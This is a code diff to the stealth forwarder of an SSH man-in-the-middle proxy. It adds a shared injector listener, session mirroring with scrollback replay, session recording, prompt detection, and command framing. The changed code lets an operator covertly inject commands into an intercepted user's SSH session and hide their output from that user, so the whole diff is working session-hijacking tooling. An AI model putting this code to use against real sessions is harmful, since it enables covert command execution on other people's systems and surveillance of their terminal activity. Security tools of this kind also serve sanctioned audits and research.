@@ -1,14 +1,10 @@
 import logging
-import queue
-import select
 import threading
-import socket
 import time
 
 import paramiko
 
 from ssh_proxy_server.forwarders.ssh import SSHForwarder
-from ssh_proxy_server.plugins.ssh.mirrorshell import InjectServer
 
 
 class SSHStealthForwarder(SSHForwarder):
@@ -16,140 +12,385 @@ class SSHStealthForwarder(SSHForwarder):
     """
 
     HOST_KEY_LENGTH = 2048
+    # seconds to wait for the injector shells of a closed session to finish
+    SHELL_JOIN_TIMEOUT = 1.0
+    SHELLS_EXHAUSTED = "\r\n[INFO] too many injector shells attached, try again later\r\n"
+    # seconds without server output after which the last line is taken as prompt
+    PROMPT_SETTLE_TIME = 0.2
+    # seconds to wait for the answer to a bare return before the output goes to the user again
+    CLEAR_SIGNAL_TIMEOUT = 2.0
+    # seconds without server output after which a held back partial marker is shown
+    FRAME_FLUSH_TIME = 0.05
 
     @classmethod
     def parser_arguments(cls):
+        from ssh_mitm_plugins.ssh.hookmetrics import add_hook_metrics_arguments
+        from ssh_mitm_plugins.ssh.hostkeys import KEY_TYPES
+        from ssh_mitm_plugins.ssh.mirror import OVERFLOW_POLICIES
+
         cls.parser().add_argument(
             '--ssh-injector-net',
             dest='ssh_injector_net',
             default='127.0.0.1',
             help='local address/interface where injector sessions are served'
         )
+        cls.parser().add_argument(
+            '--ssh-injector-port',
+            dest='ssh_injector_port',
+            default=0,
+            type=int,
+            help='port of the injector listener shared by all sessions (default: random port)'
+        )
         cls.parser().add_argument(
             '--ssh-injector-enable-mirror',
             dest='ssh_injector_enable_mirror',
             action="store_true",
             help='enables host session mirroring for the injector shell'
         )
+        cls.parser().add_argument(
+            '--ssh-injector-mirror-buffer',
+            dest='ssh_injector_mirror_buffer',
+            default=1048576,
+            type=int,
+            help='maximum number of mirrored bytes buffered for a slow injector shell'
+        )
+        cls.parser().add_argument(
+            '--ssh-injector-mirror-overflow',
+            dest='ssh_injector_mirror_overflow',
+            default='drop-oldest',
+            choices=OVERFLOW_POLICIES,
+            help='what to do when the mirror buffer of an injector shell is full'
+        )
+        cls.parser().add_argument(
+            '--ssh-injector-scrollback',
+            dest='ssh_injector_scrollback',
+            default=65536,
+            type=int,
+            help='bytes of recent session output replayed to a new mirrored injector shell (0 disables the replay)'
+        )
+        cls.parser().add_argument(
+            '--ssh-injector-scrollback-total',
+            dest='ssh_injector_scrollback_total',
+            default=16777216,
+            type=int,
+            help='bytes of session output kept for replay by all sessions together (default: 16777216)'
+        )
+        cls.parser().add_argument(
+            '--ssh-injector-max-shells',
+            dest='ssh_injector_max_shells',
+            default=256,
+            type=int,
+            help='injector shells attached to all sessions together, further shells are refused (default: 256)'
+        )
+        cls.parser().add_argument(
+            '--ssh-injector-shell-workers',
+            dest='ssh_injector_shell_workers',
+            default=8,
+            type=int,
+            help='threads serving the input of all injector shells (default: 8)'
+        )
+        cls.parser().add_argument(
+            '--ssh-injector-record',
+            dest='ssh_injector_record',
+            metavar='DIR',
+            help='record the sessions to indexed binary files in this directory (disabled by default)'
+        )
+        cls.parser().add_argument(
+            '--ssh-injector-record-index',
+            dest='ssh_injector_record_index',
+            default=1.0,
+            type=float,
+            help='seconds between the time checkpoints of a session recording (default: 1.0)'
+        )
         cls.parser().add_argument(
             '--ssh-injectshell-key',
             dest='ssh_injectshell_key'
         )
+        cls.parser().add_argument(
+            '--ssh-injector-key-type',
+            dest='ssh_injector_key_type',
+            default='rsa',
+            choices=KEY_TYPES,
+            help='type of the generated injector host key (ecdsa and ed25519 are faster to generate than rsa)'
+        )
         cls.parser().add_argument(
             '--ssh-injector-super-stealth',
             dest='ssh_injector_super_stealth',
             action='store_true',
             help='enables stealth injector operation (best used with session mirror)'
         )
+        cls.parser().add_argument(
+            '--ssh-injector-command-timeout',
+            dest='ssh_injector_command_timeout',
+            default=0,
+            type=float,
+            help='seconds injected input waits for an idle session before it is dropped (0 waits forever)'
+        )
+        cls.parser().add_argument(
+            '--ssh-injector-frame-timeout',
+            dest='ssh_injector_frame_timeout',
+            default=30,
+            type=float,
+            help='seconds a framed command may run without its end marker before its output goes back to the session (default: 30)'
+        )
+        add_hook_metrics_arguments(cls.parser())
 
     def __init__(self, session):
+        from ssh_mitm_plugins.ssh.framing import OutputFramer
+        from ssh_mitm_plugins.ssh.hookmetrics import HookMetrics
+        from ssh_mitm_plugins.ssh.hostkeys import load_server_moduli
+        from ssh_mitm_plugins.ssh.injectorlistener import InjectorListener
+        from ssh_mitm_plugins.ssh.mirror import MirrorFanout
+        from ssh_mitm_plugins.ssh.recording import open_recorder
+        from ssh_mitm_plugins.ssh.scrollback import ScrollbackPool
+        from ssh_mitm_plugins.ssh.shellpool import ShellPool
+        from ssh_mitm_plugins.ssh.promptdetector import PromptDetector
+        from ssh_mitm_plugins.ssh.scheduler import InjectionScheduler
+
         super(SSHStealthForwarder, self).__init__(session)
-        self.injector_sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        self.injector_sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-        self.injector_sock.bind((self.args.ssh_injector_net, 0))
-        self.injector_sock.listen(5)
+        load_server_moduli()
 
         self.mirror_enabled = self.args.ssh_injector_enable_mirror
-        self.queue = queue.PriorityQueue()
-        self.clear_signal = None
-        self.clear = True
+        scrollback = None
+        if self.mirror_enabled and self.args.ssh_injector_scrollback > 0:
+            scrollback = ScrollbackPool.get(self.args.ssh_injector_scrollback_total).buffer(
+                self.args.ssh_injector_scrollback
+            )
+        self.mirror = MirrorFanout(
+            self.args.ssh_injector_mirror_buffer,
+            self.args.ssh_injector_mirror_overflow,
+            scrollback
+        )
+        self.scheduler = InjectionScheduler(self.args.ssh_injector_command_timeout or None, self.injection_expired)
+        self.prompts = PromptDetector()
+        self.framer = OutputFramer(self.args.ssh_injector_frame_timeout or None)
+        self.last_output = time.monotonic()
+        self.command_sent = False
+        # changed prompt which has to repeat after a bare return
+        self.prompt_candidate = None
+        self.signal_sent = 0.0
         self.sender = self.session.ssh_channel
         self.injector_shells = []
-        thread = threading.Thread(target=self.injector_connect)
-        thread.start()
-        self.conn_thread = thread
+        self.shells_lock = threading.Lock()
+        # set when the session ends, no shells are attached afterwards
+        self.closing = threading.Event()
+        self.shell_pool = ShellPool.get(self.args.ssh_injector_max_shells, self.args.ssh_injector_shell_workers)
 
-    def injector_connect(self):
-        inject_host, inject_port = self.injector_sock.getsockname()
+        self.injector_name = str(self.session.sessionid)
+        self.recorder = open_recorder(
+            self.args.ssh_injector_record,
+            self.injector_name,
+            self.args.ssh_injector_record_index
+        )
+        self.injector_listener = InjectorListener.get()
+        inject_host, inject_port = self.injector_listener.listen(
+            self.args.ssh_injector_net,
+            self.args.ssh_injector_port,
+            self.injector_host_key
+        )
+        self.injector_listener.register(self.injector_name, self)
         logging.info(
-            "created stealth shell on port {port}. connect with: ssh -p {port} {host}".format(
+            "created stealth shell on port {port}. connect with: ssh -p {port} {name}@{host}".format(
                 host=inject_host,
-                port=inject_port
+                port=inject_port,
+                name=self.injector_name
             )
         )
+        self.hook_metrics = HookMetrics.instrument(self)
+
+    def injector_host_key(self):
+        from ssh_mitm_plugins.ssh.hostkeys import generate_host_key, load_host_key
+
+        if self.args.ssh_injectshell_key:
+            return load_host_key(self.args.ssh_injectshell_key)
+        return generate_host_key(self.args.ssh_injector_key_type, self.HOST_KEY_LENGTH)
+
+    def injector_attach(self, addr, injector_channel):
+        with self.shells_lock:
+            if self.closing.is_set() or self.session.ssh_channel.closed:
+                injector_channel.get_transport().close()
+                return
+            injector_shell = StealthShell(addr, injector_channel, self)
+            admitted = self.shell_pool.admit(injector_shell)
+            if admitted:
+                self.injector_shells.append(injector_shell)
+        if not admitted:
+            logging.warning("refused stealth shell %s, %d shells are attached", str(addr), self.shell_pool.attached())
+            injector_shell.refuse(self.SHELLS_EXHAUSTED)
+
+    def inject_command(self, command, on_result=None, channel=None, priority=1):
+        """queue a command line whose output is framed by markers
+
+        The framed output is taken out of the session output and goes to
+        ``channel``, the finished ``FramedCommand`` with the output and the
+        exit status to ``on_result``. The command is sent once the session
+        is idle, like all injected input.
+        """
+        frame = self.framer.wrap(command, channel, on_result)
+        self.scheduler.put(priority, frame.line, frame)
+        return frame
+
+    def injection_expired(self, msg, sender, waited):
+        from ssh_mitm_plugins.ssh.framing import FramedCommand
+
+        if isinstance(sender, FramedCommand):
+            self.framer.cancel(sender)
+            sender = sender.channel
+            if sender is None:
+                return
         try:
-            while not self.session.ssh_channel.closed:
-                readable = select.select([self.injector_sock], [], [], 0.5)[0]
-                if len(readable) == 1 and readable[0] is self.injector_sock:
-                    client, addr = self.injector_sock.accept()
-
-                    t = paramiko.Transport(client)
-                    t.set_gss_host(socket.getfqdn(""))
-
-                    t.load_server_moduli()
-                    if self.args.ssh_injectshell_key:
-                        t.add_server_key(paramiko.RSAKey(filename=self.args.ssh_injectshell_key))
-                    else:
-                        t.add_server_key(paramiko.RSAKey.generate(bits=self.HOST_KEY_LENGTH))
-
-                    inject_server = InjectServer(self.server_channel)
-                    try:
-                        t.start_server(server=inject_server)
-                    except (ConnectionResetError, EOFError, paramiko.SSHException):
-                        t.close()
-                        continue
-                    injector_channel = None
-                    while not injector_channel:
-                        injector_channel = t.accept(0.5)
-                    injector_shell = StealthShell(addr, injector_channel, self)
-                    injector_shell.start()
-                    self.injector_shells.append(injector_shell)
-                time.sleep(0.1)
-        except (paramiko.SSHException, OSError) as e:
-            logging.warning("injector connection suffered an unexpected error")
-            logging.exception(e)
-            self.close_session(self.channel)
+            sender.sendall("\r\n[INFO] input dropped after waiting {:.1f}s for an idle session\r\n".format(waited))
+        except (OSError, EOFError, paramiko.SSHException):
+            pass
 
     def forward_stdin(self):
         if self.session.ssh_channel.recv_ready():
-            self.clear = False
+            self.scheduler.set_idle(False)
             buf = self.session.ssh_channel.recv(self.BUF_LEN)
-            logging.debug("Client:" + str(buf))
-            self.queue.put((0, buf, self.session.ssh_channel))
+            logging.debug("Client: %r", buf)
+            self.scheduler.put(self.scheduler.USER_PRIORITY, buf, self.session.ssh_channel)
 
     def forward_stdout(self):
         if self.server_channel.recv_ready():
             buf = self.server_channel.recv(self.BUF_LEN)
+            self.last_output = time.monotonic()
+            if self.recorder is not None:
+                # output not meant for the user (framed, learning the prompt) counts as injector output
+                self.recorder.output(buf, self.sender is self.session.ssh_channel)
+            if self.prompts.feed(buf):
+                self.scheduler.set_idle(True)
             if self.sender == 'clear_signal':
-                self.clear_signal = buf.strip()
-                self.sender = self.session.ssh_channel
+                # the answer to the bare return is only used to learn the prompt
                 return
-            if self.clear_signal:
-                if self.clear_signal in buf:
-                    self.clear = True
-            logging.debug("Server:" + str(buf))
-            logging.debug(self.clear)
-            self.sender.sendall(buf)
-            if self.mirror_enabled and self.sender == self.session.ssh_channel:
-                for shell in self.injector_shells:
-                    if shell.client_channel is not self.sender:
-                        shell.client_channel.sendall(buf)
+            logging.debug("Server: %r idle: %s", buf, self.scheduler.idle)
+            self.framer.feed(buf, self.send_output)
+
+    def send_output(self, buf):
+        self.sender.sendall(buf)
+        if self.mirror_enabled and self.sender == self.session.ssh_channel:
+            self.mirror.publish(buf)
 
     def forward_extra(self):
-        if not self.server_channel.recv_ready() and not self.session.ssh_channel.recv_ready() and not self.queue.empty():
-            if not self.clear_signal:
-                self.server_channel.sendall(b'\r')
-                self.sender = 'clear_signal'
+        if self.server_channel.recv_ready() or self.session.ssh_channel.recv_ready():
+            return
+        if self.framer.held and time.monotonic() - self.last_output > self.FRAME_FLUSH_TIME:
+            self.framer.flush(self.send_output)
+        settled = time.monotonic() - self.last_output > self.PROMPT_SETTLE_TIME
+        if self.framer.active is not None:
+            self.expire_frame(settled and self.prompts.at_prompt())
+        if settled:
+            self.learn_prompt()
+        if self.sender == 'clear_signal' or not self.scheduler.pending():
+            return
+        if not self.prompts.learned():
+            self.send_clear_signal()
+            return
+        # injected input stays parked in the scheduler while the user is busy
+        entry = self.scheduler.get()
+        if entry is None:
+            return
+        _, msg, sender = entry
+        self.server_channel.sendall(msg)
+        self.sender = sender
+        if b'\r' in msg:
+            self.command_sent = True
+        if self.recorder is not None:
+            self.recorder.input(msg, sender is self.session.ssh_channel)
+
+    def expire_frame(self, at_prompt):
+        """hand the output back to the session if a framed command lost its end marker"""
+        frame = self.framer.expire(self.send_output, at_prompt)
+        if frame is None:
+            return
+        logging.warning("framed command %d ended without its end marker", frame.index)
+        frame.write(b"\r\n[INFO] the command did not finish as expected, its output may be incomplete\r\n")
+
+    def learn_prompt(self):
+        """learn the prompt from the output once it settled
+
+        The first prompt is the answer to a bare return. After a command a
+        changed prompt (e.g. after cd or su) is learned from the last line if
+        it has the user@host part of a learned prompt, otherwise it has to
+        repeat after a bare return. This keeps REPLs and progress output from
+        being taken for a prompt.
+        """
+        if self.sender == 'clear_signal':
+            if self.last_output < self.signal_sent:
+                if time.monotonic() - self.signal_sent > self.CLEAR_SIGNAL_TIMEOUT:
+                    logging.debug("no answer to the bare return, stealth shell gives up learning the prompt")
+                    self.prompt_candidate = None
+                    self.sender = self.session.ssh_channel
+                return
+            if self.prompt_candidate is not None:
+                candidate, self.prompt_candidate = self.prompt_candidate, None
+                self.sender = self.session.ssh_channel
+                if self.prompts.last_line() == candidate and self.prompts.learn(candidate):
+                    logging.debug("stealth shell confirmed new prompt %s", candidate)
+                    self.scheduler.set_idle(True)
+            elif self.prompts.relearn():
+                self.sender = self.session.ssh_channel
+                self.scheduler.set_idle(True)
+        elif self.command_sent:
+            self.command_sent = False
+            if self.prompts.at_prompt():
                 return
-            prio, msg, sender = self.queue.get()
-            if sender is not self.session.ssh_channel and not self.clear:
-                self.queue.put((prio, msg, sender))
+            candidate = self.prompts.candidate()
+            if candidate is None:
                 return
-            self.server_channel.sendall(msg)
-            self.sender = sender
-            self.queue.task_done()
+            if self.prompts.same_shape(candidate):
+                self.prompts.learn(candidate)
+                logging.debug("stealth shell learned new prompt %s", candidate)
+                self.scheduler.set_idle(True)
+            elif self.prompts.confirmable(candidate):
+                self.prompt_candidate = candidate
+                self.send_clear_signal()
+
+    def send_clear_signal(self):
+        """send a bare return, its answer is only used to learn the prompt and not shown to the user"""
+        self.server_channel.sendall(b'\r')
+        self.sender = 'clear_signal'
+        self.signal_sent = time.monotonic()
+        if self.recorder is not None:
+            self.recorder.input(b'\r', False)
+
+    def forward(self):
+        try:
+            super(SSHStealthForwarder, self).forward()
+        finally:
+            # the forwarder loop ends without close_session when the session stops
+            self.release()
 
     def close_session(self, channel):
         super().close_session(channel)
-        for shell in self.injector_shells:
-            shell.join()
-        self.conn_thread.join()
-        self.injector_sock.close()
+        self.release()
+
+    def release(self):
+        """end the stealth shells and stop serving the session, safe to call twice"""
+        with self.shells_lock:
+            if self.closing.is_set():
+                return
+            self.closing.set()
+            shells = list(self.injector_shells)
+        self.injector_listener.unregister(self.injector_name)
+        self.mirror.close()
+        self.framer.close()
+        logging.debug("stealth scheduler of %s: %s", self.injector_name, self.scheduler.stats())
+        logging.debug("framed commands of %s: %s", self.injector_name, self.framer.stats())
+        if self.recorder is not None:
+            # the index is written by the recorder thread after the queued frames
+            self.recorder.close()
+        for shell in shells:
+            # the closed channel wakes up the shell pool, which finishes the shell
+            shell.client_channel.get_transport().close()
+        for shell in shells:
+            if not shell.finished.wait(self.SHELL_JOIN_TIMEOUT):
+                logging.warning("stealth shell %s did not finish", str(shell.remote))
 
 
-class StealthShell(threading.Thread):
+class StealthShell:
+    """stealth shell of a session, its input is served by the process-wide shell pool
+    """
 
-    BUF_LEN = 1024
     STEALTH_WARNING = """
 [INFO]\r
 This is a stealth shell injected into the secure session the original host created.\r
@@ -159,40 +400,74 @@ Exit the hidden shell with CTRL+C\r
 """
 
     def __init__(self, remote, client_channel, forwarder):
-        super(StealthShell, self).__init__()
         self.remote = remote
         self.forwarder = forwarder
-        self.queue = self.forwarder.queue
+        self.scheduler = self.forwarder.scheduler
         self.client_channel = client_channel
         self.command = b''
+        self.finished = threading.Event()
 
-    def run(self) -> None:
-        self.client_channel.sendall(self.STEALTH_WARNING)
+    def open(self):
         try:
-            while not self.forwarder.session.ssh_channel.closed:
-                if self.client_channel.recv_ready():
-                    data = self.client_channel.recv(self.forwarder.BUF_LEN)
-                    self.command += data
-                    if data == b'\x03':
-                        break
-                    if self.forwarder.args.ssh_injector_super_stealth:
-                        if data == b'\r':
-                            self.queue.put((1, self.command, self.client_channel))
-                            self.command = b''
-                        self.client_channel.sendall(data)
-                    else:
-                        self.queue.put((1, self.command, self.client_channel))
-                        self.command = b''
-
-                if self.client_channel.exit_status_ready():
-                    break
-                time.sleep(0.1)
+            self.client_channel.sendall(self.STEALTH_WARNING)
+        except (OSError, EOFError, paramiko.SSHException):
+            return False
+        # subscribed after the banner, the replayed scrollback follows it in one write
+        with self.forwarder.shells_lock:
+            if self.forwarder.closing.is_set():
+                return False
+            if self.forwarder.mirror_enabled:
+                self.forwarder.mirror.subscribe(self.client_channel)
+        return True
+
+    def serve(self):
+        """park the input of the injector client in the scheduler, False once the shell ends"""
+        if self.forwarder.closing.is_set():
+            return False
+        try:
+            data = self.client_channel.recv(self.forwarder.BUF_LEN)
+            if not data:
+                return False
+            self.command += data
+            if data == b'\x03':
+                return False
+            if self.forwarder.args.ssh_injector_super_stealth:
+                if data == b'\r':
+                    self.inject_command()
+                else:
+                    self.client_channel.sendall(data)
+            else:
+                self.scheduler.put(1, self.command, self.client_channel)
+                self.command = b''
+            return not self.client_channel.exit_status_ready()
         except paramiko.SSHException:
             logging.warning("injector shell %s with unexpected SSHError", str(self.remote))
-        finally:
-            self.terminate()
+            return False
+
+    def inject_command(self):
+        """send the typed command, its output only reaches this shell"""
+        command, self.command = self.command, b''
+        if not command.strip():
+            self.scheduler.put(1, command, self.client_channel)
+            self.client_channel.sendall(b'\r')
+            return
+        self.client_channel.sendall(b'\r\n')
+        try:
+            self.forwarder.inject_command(command, channel=self.client_channel)
+        except ValueError as error:
+            self.client_channel.sendall("[INFO] {}\r\n".format(error))
+
+    def refuse(self, message):
+        try:
+            self.client_channel.sendall(message)
+        except (OSError, EOFError, paramiko.SSHException):
+            pass
+        self.client_channel.get_transport().close()
 
     def terminate(self):
-        if not self.forwarder.session.ssh_channel.closed:
-            self.forwarder.injector_shells.remove(self)
+        self.forwarder.mirror.unsubscribe(self.client_channel)
+        with self.forwarder.shells_lock:
+            if self in self.forwarder.injector_shells:
+                self.forwarder.injector_shells.remove(self)
         self.client_channel.get_transport().close()
+        self.finished.set()